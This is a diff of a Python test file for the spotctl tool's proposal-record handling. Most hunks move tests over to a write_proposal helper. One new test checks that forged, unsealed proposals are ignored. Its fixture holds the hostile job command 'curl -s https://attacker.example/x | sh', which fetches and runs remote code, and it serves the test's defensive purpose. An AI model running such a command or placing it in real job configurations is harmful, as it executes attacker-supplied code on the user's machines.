@@ -98,7 +98,7 @@ def test_a_proposal_whose_process_died_is_undone_by_the_next_lock_and_never_push
     assert cli(runner, "resume", "train", "--events-dir", str(seen_events)).exit_code == 0
     dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True, check=True)
     path.write_bytes(left["text"])
-    stackfile.proposal_path(path).write_text(json.dumps({**left["proposal"], "pid": int(dead.stdout)}))
+    stackfile.write_proposal(path, {**left["proposal"], "pid": int(dead.stdout)})
     rec = sync.read_record(path)
     sync.write_record(path, sync.Record(rec.bucket, rec.key, rec.generation, rec.base, True))
     assert cli(runner, "sync").exit_code == 0  # the next lock: undone before the pull and the push
@@ -122,15 +122,14 @@ def test_a_proposal_whose_pid_another_process_reuses_is_undone_too(synced, runne
     other = subprocess.Popen(["sleep", "60"])  # alive, with the dead spotctl's pid as far as the record says
     try:
         path.write_bytes(left["text"])
-        stackfile.proposal_path(path).write_text(json.dumps({**left["proposal"], "pid": other.pid,
-                                                             "started": stackfile.process_started(other.pid) - 1}))
+        stackfile.write_proposal(path, {**left["proposal"], "pid": other.pid, "started": stackfile.process_started(other.pid) - 1})
         assert not stackfile.held_back(path)
         rec = sync.read_record(path)
         sync.write_record(path, sync.Record(rec.bucket, rec.key, rec.generation, rec.base, True))
         assert cli(runner, "sync").exit_code == 0
         assert path.read_text() == STACK == shared_text() and not stackfile.proposal_path(path).exists()
         # the same record with the live process's own start time is a live proposal: held back
-        stackfile.proposal_path(path).write_text(json.dumps({"pid": other.pid, "started": stackfile.process_started(other.pid)}))
+        stackfile.write_proposal(path, {"pid": other.pid, "started": stackfile.process_started(other.pid)})
         assert stackfile.held_back(path)
     finally:
         other.kill()
@@ -139,7 +138,7 @@ def test_a_proposal_whose_pid_another_process_reuses_is_undone_too(synced, runne
 
 def test_a_live_proposal_holds_back_every_push_of_this_machine(synced, runner, monkeypatch):
     path, _ = synced
-    stackfile.proposal_path(path).write_text(json.dumps({"pid": os.getppid()}))  # a live process at its question
+    stackfile.write_proposal(path, {"pid": os.getppid()})  # a live process at its question
     assert cli(runner, "complete", "gang", "--no-apply").exit_code == 0
     assert jobs_of(path.read_text())["gang"]["state"] == "completed" and jobs_of(shared_text())["gang"]["state"] == "running"
     assert sync.read_record(path).unpushed
@@ -269,3 +268,25 @@ def test_a_complete_killed_during_its_update_is_finished_by_complete_again(proje
     job = stackfile.load(stackfile.resolve("example-gcp", None)).job("vit-finetune")
     assert (job.state.value, job.applying) == ("completed", None)
     assert "applying: null" in path.read_text() or "applying:\n" in path.read_text()
+
+
+@pytest.mark.parametrize("sealed", [False, True])
+def test_only_a_proposal_this_users_spotctl_sealed_is_ever_undone(project, sealed):
+    """A proposal record is undone into the stack file when its process is gone, so a forged one (a
+    commit can carry a file into stacks/.spotctl/) would write its "before" values into a job: a
+    command of the attacker's choosing. Unsealed, it is ignored; sealed (ours), it is undone."""
+    path = project / "stacks" / "Pulumi.example-gcp.yaml"
+    ref = stackfile.StackRef("example-gcp", path)
+    command = stackfile.load(ref).job("vit-finetune").command
+    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True, check=True)
+    record = {"pid": int(dead.stdout), "started": None, "job": "vit-finetune", "wrote": {"command": command},
+              "before": {"command": "curl -s https://attacker.example/x | sh"}, "missing": []}
+    if sealed:
+        stackfile.write_proposal(path, record)
+    else:
+        stackfile.proposal_path(path).parent.mkdir(exist_ok=True)
+        stackfile.proposal_path(path).write_text(json.dumps({"record": record}) + "\n")
+    stackfile.update_job(path, "bert-eval", lambda current, written: {"state": "preempted"})  # takes the lock
+    after = stackfile.load(ref).job("vit-finetune").command
+    assert after == ("curl -s https://attacker.example/x | sh" if sealed else command)
+    assert stackfile.load(ref).job("bert-eval").state.value == "preempted"
